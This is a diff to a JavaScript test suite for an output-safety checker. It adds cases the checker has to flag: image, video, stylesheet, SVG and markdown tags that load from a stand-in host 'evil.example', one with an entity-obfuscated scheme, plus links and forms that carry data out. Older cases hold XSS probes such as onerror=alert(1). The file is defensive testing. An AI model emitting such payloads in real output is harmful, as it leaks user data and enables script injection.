@@ -378,6 +378,20 @@ describe("output checks and redaction", () => {
       ["<javascript:alert(1)>", "dangerous_url"], // an autolink
       ["<div>\n<img src=x onerror=alert(1)", "html_event_handler"], // the page around may close it
       [`<div>\n<img src=x ${"a ".repeat(1100)}onerror=alert(1)>`, "html_oversized_tag"],
+      // What a browser fetches as the page loads is a beacon; a link carrying data, one click away.
+      ["<img src=//evil.example/p.png>", "external_image"],
+      ['<video poster="https://evil.example/p.png">', "external_image"],
+      ['<img srcset="https://evil.example/a.png 1x, /b.png 2x">', "external_image"],
+      ["<div style=\"background:url('https://evil.example/p.png')\">x</div>", "external_image"],
+      ['<svg><image href="https://evil.example/p.png"/></svg>', "external_image"],
+      ["<link rel=stylesheet href=https://evil.example/s.css>", "external_image"],
+      ["![p](//evil.example/p.png)", "external_image"],
+      ["![p](https&#x3a;//evil.example/p.png)", "external_image"],
+      ['<a href="https://evil.example/?d=Zq8vN2rT5wX7pL4mZq8vN2rT5wX7pL4m">x</a>', "data_in_link"],
+      [
+        '<form action="https://evil.example/c?d=Zq8vN2rT5wX7pL4mZq8vN2rT5wX7pL4m"><button>x</button></form>',
+        "data_in_link",
+      ],
     ];
     for (const [text, type] of unsafe) assert.ok(types(findUnsafeOutput(text)).includes(type), text);
     const benign = [
